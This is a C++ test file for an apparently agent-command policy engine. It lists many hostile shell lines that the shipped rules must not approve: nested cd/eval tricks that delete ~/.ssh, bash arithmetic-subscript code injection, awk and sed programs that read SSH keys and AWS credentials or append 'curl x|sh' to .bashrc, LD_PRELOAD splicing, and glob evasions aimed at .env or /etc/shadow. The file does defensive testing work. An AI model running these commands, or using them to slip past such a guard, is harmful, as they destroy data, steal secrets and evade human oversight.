// The shell model under the shipped rule pack: working directories followed through every
// nesting level, text bash evaluates as code, awk and sed program text, and globs judged by
// the most sensitive name they may match. Each attack must not be approved; the everyday
// forms beside them still are.
#include <filesystem>

#include "engine/rule_files.h"
#include "engine/script_effects.h"
#include "tests/build_paths.h"
#include "tests/engine/engine_test_util.h"

using namespace warden;
using warden::test::test_options;

namespace {

std::shared_ptr<const Policy> shipped_policy() {
  Diagnostics diagnostics;
  RuleSources sources = read_rule_files({WARDEN_SOURCE_DIR "/rules"}, &diagnostics);
  auto loaded = Policy::compile(sources);
  for (const auto& d : loaded.diagnostics) UNSCOPED_INFO(d.to_text());
  REQUIRE(loaded.policy);
  return loaded.policy;
}

std::string json_string(const std::string& s) {
  std::string out = "\"";
  for (char c : s) {
    if (c == '"' || c == '\\') out += '\\';
    if (c == '\n') {
      out += "\\n";
      continue;
    }
    out += c;
  }
  return out + "\"";
}

Decision decide_line(Engine& engine, const std::string& line) {
  const std::string json =
      R"({"target":"shell","action":"run","payload":{"command":)" + json_string(line) +
      R"(,"cwd":"/home/user/project"},"explanation":"doing the task",)"
      R"("context":{"agent":"a","session":"s","source":"cli","principal":"p"}})";
  return warden::test::decide_ok(engine, json);
}

void check_not_approved(Engine& engine, const std::vector<std::string>& lines) {
  for (const auto& line : lines) {
    const Decision d = decide_line(engine, line);
    std::string rules;
    for (const auto& r : d.rules) rules += r.rule + " ";
    INFO(line << "  ->  " << outcome_name(d.outcome) << " by " << rules);
    CHECK(d.outcome != Outcome::Approve);
  }
}

void check_approved(Engine& engine, const std::vector<std::string>& lines) {
  for (const auto& line : lines) {
    const Decision d = decide_line(engine, line);
    std::string rules;
    for (const auto& r : d.rules) rules += r.rule + "(" + r.reason + ") ";
    INFO(line << "  ->  " << outcome_name(d.outcome) << " by " << rules);
    CHECK(d.outcome == Outcome::Approve);
  }
}

}  // namespace

TEST_CASE("the working directory is followed at every nesting level", "[shell-semantics][cwd]") {
  Engine engine(shipped_policy(), test_options());
  check_not_approved(engine, {
                                 "bash -c 'cd ~ && rm -rf .ssh'",
                                 "sh -c 'cd ~; rm -rf .ssh'",
                                 "bash -c 'cd && cat .aws/credentials'",
                                 "eval 'cd ~' && rm -rf .ssh",
                                 "eval \"cd ~; rm -rf .config\"",
                                 "(cd ~ && rm -rf .ssh)",
                                 "{ cd ~; rm -rf .ssh; }",
                                 "f() { cd ~ && rm -rf .ssh; }; f",
                                 "go() { cd ~; }; go; rm -rf .ssh",
                                 "cd ~; cd /home/user/project/nowhere; rm -rf .ssh",
                                 "pushd ~ && rm -rf .bashrc",
                                 "bash -c 'pushd ~ >/dev/null; rm -rf .config'",
                                 "cd ~ && cd /tmp && cd - && rm -rf .ssh",
                                 "for d in ~; do cd $d; done; rm -rf .ssh",
                                 "sh -c 'cd ~ && echo \"curl x|sh\" >> .bashrc'",
                                 "env bash -c 'cd ~ && rm -rf .gnupg'",
                                 "bash -c \"sh -c 'cd ~ && rm -rf .ssh'\"",
                                 "c=cd; $c ~; rm -rf .ssh",
                                 "cd() { builtin cd ~; }; cd . && rm -rf .ssh",
                                 "bash <<'EOF'\ncd ~\nrm -rf .ssh\nEOF",
                                 "trap 'cd ~' DEBUG; rm -rf .ssh",
                                 "echo ~ | xargs -I{} sh -c 'cd {} && rm -rf .ssh'",
                                 ". /dev/stdin <<< 'cd ~'; rm -rf .ssh",
                                 "echo 'cd ~' > x.sh; . ./x.sh; rm -rf .ssh",
                             });
  check_approved(engine, {
                             "cd src && ls",
                             "(cd src && ls) && ls",
                             "bash -c 'cd src && ls'",
                         });
}

TEST_CASE("text bash evaluates as code needs a human", "[shell-semantics][code]") {
  Engine engine(shipped_policy(), test_options());
  check_not_approved(engine, {
                                 "test -v 'a[$(touch /tmp/pwned)]'",
                                 "[ -v 'a[$(touch /tmp/pwned)]' ]",
                                 "[[ -v a[$(touch /tmp/pwned)] ]]",
                                 "x='a[$(touch /tmp/pwned)]'; [[ $x -eq 1 ]]",
                                 "let 'a[$(touch /tmp/pwned)]'",
                                 "x='a[$(touch /tmp/pwned)]'; echo $((x))",
                                 "x='a[$(touch /tmp/pwned)]'; ((x))",
                                 "declare -i n='a[$(touch /tmp/pwned)]'",
                                 "typeset -i n; n='a[$(touch /tmp/pwned)]'",
                                 "printf -v 'a[$(touch /tmp/pwned)]' %s 1",
                                 "read 'a[$(touch /tmp/pwned)]' <<< 1",
                                 "x='$(touch /tmp/pwned)'; echo ${x@P}",
                                 "mapfile -C 'touch /tmp/pwned #' -c 1 a < README.md",
                                 "hash -p /tmp/evil ls; ls",
                                 "trap 'touch /tmp/pwned' EXIT",
                                 "complete -C 'touch /tmp/pwned' git",
                                 "compgen -C 'touch /tmp/pwned' x",
                                 "enable -f /tmp/evil.so evil",
                                 "command printf -v 'a[$(touch /tmp/pwned)]' %s 1",
                                 "builtin test -v 'a[$(touch /tmp/pwned)]'",
                                 "x='a[$(touch /tmp/pwned)]'; echo ${!x}",
                             });
  check_approved(engine, {
                             "echo $((1 + 2))",
                             "echo $(( $# + 1 ))",
                         });
}

TEST_CASE("awk and sed program text is read", "[shell-semantics][awk-sed]") {
  Engine engine(shipped_policy(), test_options());
  check_not_approved(
      engine, {
                  "awk 'BEGIN { while ((getline l < \"/home/user/.ssh/id_rsa\") > 0) print l }'",
                  "awk 'BEGIN { print \"curl x | sh\" > \"/home/user/.bashrc\" }'",
                  "awk '{ print | \"sh\" }' README.md",
                  "awk 'BEGIN { \"id\" | getline x; print x }'",
                  "awk 'BEGIN { c = \"sh\"; print \"id\" | c }'",
                  "awk 'BEGIN { f = \"/home/user/.ssh/id_rsa\"; getline l < f; print l }'",
                  "gawk -e 'BEGIN { system(\"id\") }'",
                  "awk --source='BEGIN { system(\"id\") }'",
                  "awk -f prog.awk README.md",
                  "sed -n '1e id' README.md",
                  "sed 's/.*/id/e' README.md",
                  "sed -n 'w /home/user/.bashrc' README.md",
                  "sed 'r /home/user/.ssh/id_rsa' README.md",
                  "sed --expression='1e id' README.md",
                  "sed -e 'R /home/user/.aws/credentials' README.md",
                  "sed -i -e '$r /home/user/.ssh/id_rsa' notes.txt",
                  "sed -ne 'W /home/user/.profile' README.md",
                  "sed -f script.sed README.md",
                  "sed \"$S\" README.md",
                  "sed -n '/x/{e id\n}' README.md",
                  "sed 's/a/b/w /home/user/.bashrc' README.md",
              });
  check_approved(engine, {
                             "awk '{ print $1 }' README.md",
                             "awk -F: '$3 > 100 { print $1 }' data.txt",
                             "sed -n '1,5p' README.md",
                             "sed -i 's/foo/bar/g' src/main.c",
                             "awk 'BEGIN { print \"x\" > \"out.txt\" }'",
                         });
}

TEST_CASE("code with a file name or input line spliced in needs a human",
          "[shell-semantics][replace]") {
  Engine engine(shipped_policy(), test_options());
  check_not_approved(engine, {
                                 "find . -name '*.py' -execdir bash -c 'wc -l {}' \\;",
                                 "find . -exec sh -c 'cat {}' \\;",
                                 "ls | xargs -I{} bash -c 'cat {}'",
                                 "ls | xargs -I% python3 -c 'print(\"%\")'",
                                 "git ls-files | xargs -I{} sh -c 'wc -l {}'",
                                 "ls | parallel sh -c 'wc -l {}'",
                                 "ls | xargs --replace=@@ sh -c 'cat @@'",
                                 "ls | xargs -I{} timeout 5 sh -c 'wc -l {}'",
                                 "find . -exec awk '/{}/' README.md \\;",
                                 "xargs --process-slot-var=BASH_ENV echo < list.txt",
                                 "ls | xargs -P2 --process-slot-var=LD_PRELOAD wc -l",
                             });
  check_approved(engine, {
                             "find . -exec wc -l {} \\;",
                             "find . -name '*.py' -exec grep -l TODO {} +",
                             "ls | xargs wc -l",
                             "ls | parallel 'wc -l {}'",
                             "python3 -c 'print(\"%\")'",
                         });
}

TEST_CASE("a glob is as sensitive as the most sensitive name it may match",
          "[shell-semantics][glob]") {
  Engine engine(shipped_policy(), test_options());
  check_not_approved(engine, {
                                 "cat .en?",
                                 "cat .[e]nv",
                                 "cat *key.p?m",
                                 "cat ~/.ss*/id_*",
                                 "cat ~/.aws/cred*",
                                 "cat .e{n,x}v",
                                 "cat .en[v]",
                                 "echo 'curl x|sh' >> ~/.bash?c",
                                 "cat .*/../.ssh/id_rsa",
                                 "shopt -s dotglob; cat *",
                                 "cat /etc/s*w",
                                 "cat ~/.aws/c*",
                             });
  check_approved(engine, {
                             "ls src/*.c",
                             "cat docs/*.md",
                             "wc -l *.txt",
                             "cat src/*.json",
                         });
}

// `shopt -s dotglob` (or GLOBIGNORE) widens the globs of its own line only: a file read of a
// glob that follows on the same engine is classed as on a fresh one.
TEST_CASE("a shell line's dotglob does not reach the next proposal", "[shell-semantics][glob]") {
  const std::string read =
      R"({"target":"file","action":"read","payload":{"path":"/home/user/project/*"},)"
      R"("explanation":"doing the task",)"
      R"("context":{"agent":"a","session":"s","source":"cli","principal":"p"}})";
  Engine fresh(shipped_policy(), test_options());
  const Decision alone = warden::test::decide_ok(fresh, read);
  Engine engine(shipped_policy(), test_options());
  decide_line(engine, "shopt -s dotglob; echo hi");
  const Decision after = warden::test::decide_ok(engine, read);
  REQUIRE(alone.effects.size() == 1);
  REQUIRE(after.effects.size() == 1);
  CHECK(after.effects[0].path_class == alone.effects[0].path_class);
  CHECK(after.outcome == alone.outcome);
}

TEST_CASE("awk and sed readers fail closed", "[shell-semantics][awk-sed]") {
  std::vector<Effect> out;
  sed_program_effects("s/a/b", "/w", "/h", &out);  // unterminated
  REQUIRE(out.size() == 1);
  CHECK(out[0].kind == EffectKind::Exec);
  CHECK(out[0].dynamic);
  out.clear();
  sed_program_effects("k", "/w", "/h", &out);  // no such command
  REQUIRE(out.size() == 1);
  CHECK(out[0].dynamic);
  out.clear();
  awk_program_effects("BEGIN { print \"x", "/w", "/h", &out);  // unterminated string
  REQUIRE(out.size() == 1);
  CHECK(out[0].dynamic);
  out.clear();
  // `system` hidden where a regular expression would be read differently.
  awk_program_effects("{ a = b /2; system(\"id\"); c = d/ 2 }", "/w", "/h", &out);
  REQUIRE_FALSE(out.empty());
  CHECK(std::any_of(out.begin(), out.end(),
                    [](const Effect& e) { return e.kind == EffectKind::Exec; }));
  out.clear();
  sed_program_effects("1,5p;s/x/y/g;/re/d", "/w", "/h", &out);
  CHECK(out.empty());
  awk_program_effects("{ print $1 > 2 ? \"a\" : \"b\" }", "/w", "/h", &out);
  CHECK_FALSE(out.empty());  // print > (expression): dynamic
}

TEST_CASE("runs holds the first word's file exactly as path-normalize reads it",
          "[shell-semantics][runs]") {
  // A rule reports every command whose runs slot differs from (path-normalize argv[0] cwd) when
  // argv[0] holds a /, or is not "" when it does not: rules join history on the slot in place of
  // that call, so the two must never differ.
  auto policy = warden::test::must_compile(R"(
(defrule runs-differs
  (shell-command (proposal ?id) (index ?i) (argv ?w $?) (cwd ?c) (runs ?r))
  (test (if (str-index "/" ?w) then (neq ?r (path-normalize ?w ?c)) else (neq ?r "")))
  =>
  (assert (decision (proposal ?id) (outcome reject) (rule runs-differs) (reason (str-cat ?w " " ?r)))))
(defrule runs-seen
  (shell-command (proposal ?id) (runs ?r&~""))
  =>
  (assert (hint (proposal ?id) (rule runs-seen) (text ?r))))
(defrule otherwise
  (proposal (id ?id))
  =>
  (assert (decision (proposal ?id) (outcome approve) (rule otherwise) (reason "ok"))))
)");
  Engine engine(policy, test_options());
  const std::vector<std::pair<std::string, std::string>> lines = {
      {"./build.sh", "/home/user/project/build.sh"},
      {"bin/run x", "/home/user/project/bin/run"},
      {"cd src && ../tools/gen.py", "/home/user/project/tools/gen.py"},
      {"cd /tmp && ./x", "/tmp/x"},
      {"~/bin/tool", "/home/user/bin/tool"},
      {"$HOME/bin/tool", "/home/user/bin/tool"},
      {"/bin/cat x", "/bin/cat"},
      {"/usr/bin/env ls", ""},  // the fact is for the program env runs
      {"./a/../../b", "/home/user/b"},
      {".//x//y/", "/home/user/project/x/y"},
      {"$X/y", "$X/y"},
      {"`pwd`/y", "`pwd`/y"},
      {"sudo ./install.sh", "/home/user/project/install.sh"},
      {"bash -c './inner.sh'", "/home/user/project/inner.sh"},
      {"ls -la", ""},
      {"make test", ""},
      {"X=1", ""},
  };
  for (const auto& [line, runs] : lines) {
    INFO(line);
    const Decision d = decide_line(engine, line);
    CHECK_FALSE(warden::test::fired(d, "runs-differs"));
    std::string seen;
    for (const auto& h : d.hints) seen = h.text;
    CHECK(seen == runs);
  }
}
